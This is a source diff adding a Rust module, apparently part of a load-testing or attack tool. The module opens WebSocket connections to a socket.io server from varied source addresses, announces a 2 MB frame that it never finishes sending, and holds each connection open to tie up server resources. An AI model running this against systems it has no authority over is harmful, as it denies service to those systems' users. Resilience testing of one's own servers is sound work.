@@ -1,0 +1,38 @@
+//! Messages before CONNECT that are announced, and of which the end never comes.
+
+use crate::{
+    settings::Result,
+    tally::Tally,
+    target::{Target, endpoint, stranger_address},
+};
+use futures_util::StreamExt;
+use std::time::Duration;
+use tokio::{io::AsyncWriteExt, time::timeout};
+use tokio_tungstenite::client_async;
+
+const MESSAGE_BYTES: u32 = 2_000_000;
+
+const PATIENCE: Duration = Duration::from_mins(2);
+
+pub async fn strike(target: &Target, number: usize, tally: &Tally) -> Result<()> {
+    let stream = endpoint(target.api, stranger_address(number))
+        .open()
+        .await?;
+    let url = format!("ws://{}/socket.io/?EIO=4&transport=websocket", target.api);
+    let Ok((mut socket, _)) = client_async(url, stream).await else {
+        tally.add_refused();
+        return Ok(());
+    };
+    // RFC 6455, 5.2: a final text frame, masked with zeros.
+    let length = u64::from(MESSAGE_BYTES).to_be_bytes();
+    let head = [&[0x81, 0xff][..], &length, &[0; 4]].concat();
+    socket.get_mut().write_all(&head).await?;
+    tally.add_done();
+    let rest = vec![b'4'; MESSAGE_BYTES as usize - 1];
+    socket.get_mut().write_all(&rest).await?;
+    timeout(PATIENCE, async {
+        while let Some(Ok(_)) = socket.next().await {}
+    })
+    .await?;
+    Ok(())
+}
